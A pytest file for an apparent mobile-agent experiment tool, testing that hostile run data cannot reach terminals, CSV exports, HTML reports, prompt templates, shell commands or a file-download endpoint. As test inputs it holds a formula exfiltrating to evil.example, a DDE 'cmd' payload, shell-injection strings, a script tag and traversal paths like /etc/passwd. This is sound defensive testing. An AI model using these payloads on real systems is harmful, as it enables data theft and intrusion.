"""Text of models, devices and runs is shown as text: in terminals, in prompts, in shells, in browsers."""

from __future__ import annotations

import asyncio
import csv
import subprocess
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner, Result

from mobile_world.agents.instructions import fill
from mobile_world.agents.models import ImagePart
from mobile_world.agents.templates import PromptContext, SystemPromptTemplate, UserPromptTemplate
from mobile_world.cli.app import app
from mobile_world.cli.lazy_group import Failure
from mobile_world.core.app import build_app
from mobile_world.core.session_manager import SessionManager
from mobile_world.domain import DeviceLost, ScreenSize
from mobile_world.experiment.exports.tables import FORMULA
from mobile_world.runtime.adb.shell_protocol import command_line
from mobile_world.runtime.device_sources import SimulatedPhones
from tests.mobile_world.experiment.recorded import plan, record
from tests.mobile_world.viewer.played import HARM, HOSTILE
from tests.mobile_world.viewer.runs import write_run

UNSEEN = ("\x1b", "\x07", "\u202e", "\u2066", "\x9b")
FORMULA_TEXT = '=HYPERLINK("http://evil.example?"&A1)'
EVIL = f"{HOSTILE}\x07\x9b2J=cmd|'/c calc'!A1"


def mw(*words: str | Path) -> Result:
    return CliRunner().invoke(app, [str(word) for word in words])


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A run in which every word wants to be more than a word."""
    of = plan(tasks="A").model_copy(update={"label": EVIL})
    arms = tuple(arm.model_copy(update={"title": EVIL, "label": EVIL}) for arm in of.arms)
    told = [
        record("A", "agent_failure", answer=FORMULA_TEXT, goal=EVIL, device=EVIL, params={"name": EVIL}),
        record("A", replica=1, answer=EVIL, score_reason=EVIL),
    ]
    return write_run(tmp_path / "runs" / "hostile", of.model_copy(update={"arms": arms}), told)


@pytest.mark.parametrize(
    "words",
    [
        ("logs", "results", "--log-dir"),
        ("logs", "results", "--by", "arm", "--log-dir"),
        ("experiment", "report"),
        ("experiment", "verify"),
        ("experiment", "status"),
    ],
    ids=" ".join,
)
def test_a_terminal_is_told_nothing_by_a_run(hostile: Path, words: tuple[str, ...]) -> None:
    done = mw(*words, hostile)
    assert done.exit_code in (0, 3), done.output
    assert done.output and not any(mark in done.stdout + done.stderr for mark in UNSEEN)


def test_nor_by_an_error() -> None:
    told = Failure(DeviceLost(f"the device said {EVIL}")).format_message()
    assert "\\x1b[31m" in told and not any(mark in told for mark in UNSEEN)


def test_a_spreadsheet_is_told_nothing_by_a_run(tmp_path: Path, hostile: Path) -> None:
    done = mw("experiment", "export", hostile, "--to", tmp_path / "tables", "--format", "csv")
    assert done.exit_code == 0, done.output
    cells = []
    for file in (tmp_path / "tables").rglob("*.csv"):
        with file.open(newline="") as stream:
            cells += [cell for row in csv.reader(stream) for cell in row]
    assert f"'{FORMULA_TEXT}" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA) and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_a_page_is_told_nothing_by_a_run(hostile: Path) -> None:
    assert mw("experiment", "report", hostile).exit_code == 0
    page = (hostile / "report.html").read_text()
    assert not any(mark in page for mark in HARM)


def test_words_that_look_like_places_to_fill_stay_words() -> None:
    evil = "{history} {user_task} {previous_actions} {width} {0.__class__.__mro__} {{goal}} %(goal)s ${HOME}"
    assert fill("Task: {goal}. {history}", goal=evil, history="h") == f"Task: {evil}. h"
    now = PromptContext(goal=evil, image=ImagePart(b"", "image/png", ScreenSize(28, 28)), news=evil, elements=evil)
    for template in (
        SystemPromptTemplate("Look. {width}"),
        UserPromptTemplate("Do {user_task} after {previous_actions}"),
    ):
        said = "\n".join(part for turn in template.messages(now) for part in turn.parts if isinstance(part, str))
        assert evil in said


def test_words_for_a_shell_are_single_words(tmp_path: Path) -> None:
    words = ["printf", "%s\\n", HOSTILE, "; touch /tmp/never", "$(id)", "`id`", "a\nb", "'", '"', "", "-rf", "*"]
    done = subprocess.run(["sh", "-c", command_line(words)], capture_output=True, timeout=20, cwd=tmp_path)
    assert done.stdout.decode() == "".join(f"{word}\n" for word in words[2:])


def test_what_a_device_sent_runs_nothing_in_a_browser(tmp_path: Path) -> None:
    manager = SessionManager(SimulatedPhones(tmp_path / "state", 1), artefacts=tmp_path / "artefacts")
    page = b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
    kept = manager.artefacts.keep(page, device="d", kind="xml", prefix="ui", suffix=".xml")
    served = build_app(manager, token=None, loopback_only=True, most_body_bytes=1000)

    async def ask(address: str) -> httpx.Response:
        transport = httpx.ASGITransport(app=served)
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
            return await client.get(address)

    for address in (f"/download?path={kept}", "/docs", "/nothing-here"):
        headers = asyncio.run(ask(address)).headers
        assert headers["content-security-policy"].startswith("default-src 'none'")
        assert headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("path", ["../secret", "/etc/passwd", "d/xml/../../../secret", "d\0", "~/x", "link"])
def test_no_file_but_an_artefact_is_given_out(tmp_path: Path, path: str) -> None:
    (tmp_path / "secret").write_text("secret")
    manager = SessionManager(SimulatedPhones(tmp_path / "state", 1), artefacts=tmp_path / "artefacts")
    manager.artefacts.keep(b"x", device="../../d", kind="xml", prefix="../p", suffix=".xml")
    (tmp_path / "artefacts" / "link").symlink_to(tmp_path / "secret")
    served = build_app(manager, token=None, loopback_only=True, most_body_bytes=1000)

    async def ask() -> httpx.Response:
        transport = httpx.ASGITransport(app=served)
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
            return await client.get("/download", params={"path": path})

    assert asyncio.run(ask()).status_code == 404
    assert sorted(each.name for each in tmp_path.iterdir()) == ["artefacts", "secret"]
